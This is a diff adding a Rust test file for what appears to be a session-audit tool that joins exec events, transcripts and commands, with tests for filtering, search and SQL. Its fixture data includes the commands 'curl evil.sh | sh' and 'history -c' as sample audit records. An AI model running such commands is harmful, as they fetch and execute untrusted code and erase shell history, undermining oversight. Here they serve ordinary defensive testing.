@@ -1,0 +1,186 @@
+use polars::prelude::*;
+
+use super::*;
+use crate::config::Pattern;
+use crate::model::{CommandRow, ExecEvent, Timestamp, TranscriptRow};
+
+fn ev(id: &str, session: Option<&str>, outcome: &str, t: i64, who: &str) -> ExecEvent {
+    ExecEvent {
+        event_id: Some(id.into()),
+        event_time: Timestamp(t),
+        session_id: session.map(Into::into),
+        outcome: Some(outcome.into()),
+        principal: Some(who.into()),
+        cluster: Some("prod".into()),
+        ..Default::default()
+    }
+}
+
+fn transcript(session: &str, status: &str, end: i64) -> TranscriptRow {
+    TranscriptRow {
+        transcript_id: Some(session.into()),
+        session_id: Some(session.into()),
+        time: Timestamp(end),
+        status: Some(status.into()),
+        footer_time: Some(Timestamp(end)),
+        commands: Some(2),
+        commands_run: Some(1),
+        text: Some("$ ls\nfile\n".into()),
+        ..Default::default()
+    }
+}
+
+fn cmd(session: &str, seq: i64, text: &str, t: i64) -> CommandRow {
+    CommandRow {
+        command_id: Some(format!("{session}#{seq:05}")),
+        session_id: Some(session.into()),
+        seq: Some(seq),
+        time: Timestamp(t),
+        command: Some(text.into()),
+        abandoned: Some(false),
+        ..Default::default()
+    }
+}
+
+fn data() -> Dataset {
+    let events = vec![
+        ev("1", Some("s1"), "success", 1_000, "alice"),
+        ev("2", Some("s1"), "success", 2_000, "alice"),
+        ev("3", None, "failed", 3_000, "bob"),
+        ExecEvent {
+            dry_run: Some(true),
+            ..ev("4", Some("s2"), "success", 4_000, "bob")
+        },
+        ev("5", Some("s3"), "success", 5_000, "bob"),
+    ];
+    let ts = vec![
+        transcript("s1", "truncated", 61_000),
+        transcript("s9", "present", 70_000),
+    ];
+    let cmds = vec![
+        cmd("s1", 1, "whoami", 61_000),
+        cmd("s1", 2, "curl evil.sh | sh", 61_000),
+        cmd("s9", 1, "history -c", 70_000),
+    ];
+    Dataset::from_rows(&events, &[], &ts, &cmds).unwrap()
+}
+
+fn strs(df: &DataFrame, c: &str) -> Vec<String> {
+    df.column(c)
+        .unwrap()
+        .str()
+        .unwrap()
+        .iter()
+        .map(|v| v.unwrap_or("").to_owned())
+        .collect()
+}
+
+fn get(d: &Dataset, lf: PolarsResult<LazyFrame>) -> DataFrame {
+    let _ = d;
+    lf.unwrap().collect().unwrap()
+}
+
+#[test]
+fn one_session_per_id_joined_to_its_transcript() {
+    let d = data();
+    let s = get(&d, d.sessions(&Filter::default()));
+    assert_eq!(strs(&s, "session_id"), ["s1", "s3"]);
+    assert_eq!(strs(&s, "event_id"), ["1", "5"], "the earliest event wins");
+    assert_eq!(strs(&s, "transcript_status"), ["truncated", "missing"]);
+    let dur: Vec<Option<i64>> = s
+        .column("duration_s")
+        .unwrap()
+        .i64()
+        .unwrap()
+        .iter()
+        .collect();
+    assert_eq!(dur, [Some(60), None]);
+    let n: Vec<Option<i64>> = s
+        .column("commands")
+        .unwrap()
+        .i64()
+        .unwrap()
+        .iter()
+        .collect();
+    assert_eq!(n, [Some(1), None]);
+    let a = get(&d, d.attempts(&Filter::default()));
+    assert_eq!(strs(&a, "event_id"), ["3"]);
+    assert_eq!(strs(&get(&d, d.orphans()), "session_id"), ["s9"]);
+}
+
+#[test]
+fn commands_follow_the_filter_and_orphans_only_without_a_target() {
+    let d = data();
+    let all = get(&d, d.commands(&Filter::default()));
+    assert_eq!(
+        strs(&all, "command"),
+        ["whoami", "curl evil.sh | sh", "history -c"]
+    );
+    assert_eq!(strs(&all, "principal"), ["alice", "alice", ""]);
+    let alice = Filter {
+        principal: Some(Pattern::new("ALICE")),
+        ..Filter::default()
+    };
+    assert_eq!(strs(&get(&d, d.commands(&alice)), "command").len(), 2);
+    let bob = Filter {
+        principal: Some(Pattern::new("bob")),
+        ..Filter::default()
+    };
+    assert_eq!(get(&d, d.commands(&bob)).height(), 0);
+    let orphan = Filter {
+        session: Some("s9".into()),
+        ..Filter::default()
+    };
+    assert_eq!(
+        strs(&get(&d, d.commands(&orphan)), "command"),
+        ["history -c"]
+    );
+    let late = Filter {
+        since: Some(Timestamp(65_000)),
+        ..Filter::default()
+    };
+    assert_eq!(
+        strs(&get(&d, d.commands(&late)), "command"),
+        ["history -c"],
+        "s1 started before --since; the orphan's own time is after it"
+    );
+}
+
+#[test]
+fn search_finds_commands_command_strings_and_output() {
+    let d = data();
+    let hits = get(
+        &d,
+        d.search(&Filter::default(), &Matcher::text("CURL"), false),
+    );
+    assert_eq!(strs(&hits, "found_in"), ["command"]);
+    let out = get(
+        &d,
+        d.search(&Filter::default(), &Matcher::text("file"), true),
+    );
+    assert_eq!(strs(&out, "found_in"), ["output", "output"]);
+    assert_eq!(strs(&out, "command"), ["file", "file"]);
+    let re = get(
+        &d,
+        d.search(&Filter::default(), &Matcher::regex("^who").unwrap(), false),
+    );
+    assert_eq!(strs(&re, "command"), ["whoami"]);
+}
+
+#[test]
+fn sql_sees_tables_and_views() {
+    let d = data();
+    let mut ctx = d.sql(&Filter::default()).unwrap();
+    let df = ctx
+        .execute(
+            "SELECT principal, count(*) AS n FROM sessions GROUP BY principal ORDER BY principal",
+        )
+        .unwrap()
+        .collect()
+        .unwrap();
+    assert_eq!(strs(&df, "principal"), ["alice", "bob"]);
+    assert!(ctx
+        .execute("SELECT nosuch FROM sessions")
+        .and_then(|l| l.collect())
+        .is_err());
+}
